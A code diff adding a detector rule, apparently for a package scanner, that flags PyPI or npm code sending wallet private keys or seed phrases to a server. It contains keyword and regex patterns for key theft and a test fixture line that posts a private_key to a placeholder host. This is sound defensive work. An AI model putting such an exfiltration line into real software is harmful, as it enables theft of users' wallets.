@@ -1,0 +1,65 @@
+import { trace } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { codeWith, sight } from "./_sight.ts";
+
+const WORDS = [
+  "private_key",
+  "privatekey",
+  "mnemonic",
+  "seed_phrase",
+  "seedphrase",
+  "secret_key",
+  "keypair",
+  "wallet_key",
+  "passphrase",
+] as const;
+const NETWORK = ["requests", "urlopen", "httpx", "aiohttp", "fetch(", "axios", "urllib", "http"] as const;
+const KEY = /\b(?:private_?keys?|mnemonics?|seed_?phrases?|wallet_?keys?|keypair|secret_?phrase)\b/i;
+
+export const sendsWalletKeys: Detector = {
+  id: "sends-wallet-keys",
+  title: "Sends a wallet's private key or seed phrase to a server",
+  severity: "high",
+  ecosystems: ["pypi", "npm"],
+  points: 4.6,
+  class: "threat",
+  group: "exfiltration",
+  why: `A request carries something called a private key, mnemonic or seed phrase. Whoever has it owns the wallet; no service needs it,
+because transactions are signed where the key is.
+
+Clients of custody services that keep keys for their users send them by design.`,
+  literals: [...WORDS, ...NETWORK],
+  *detect(tree) {
+    for (const file of codeWith(tree, WORDS)) {
+      for (const deed of trace(file).deeds) {
+        if (deed.act !== "upload") continue;
+        const key = KEY.exec(deed.words);
+        if (key !== null)
+          yield sight(file, deed.offset, `${deed.what} sends ${key[0]} ${deed.text.slice(0, 80)}`.trimEnd(), {
+            phase: deed.phase,
+            share: 1,
+          });
+      }
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/__init__.py":
+            "import requests\ndef make(private_key):\n    requests.post('http://example.invalid', json={'k': private_key})\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/__init__.py":
+            "import requests\ndef make(private_key):\n    tx = sign(private_key)\n    requests.post('http://example.invalid', json={'t': tx})\n",
+        },
+      },
+    ],
+  },
+};
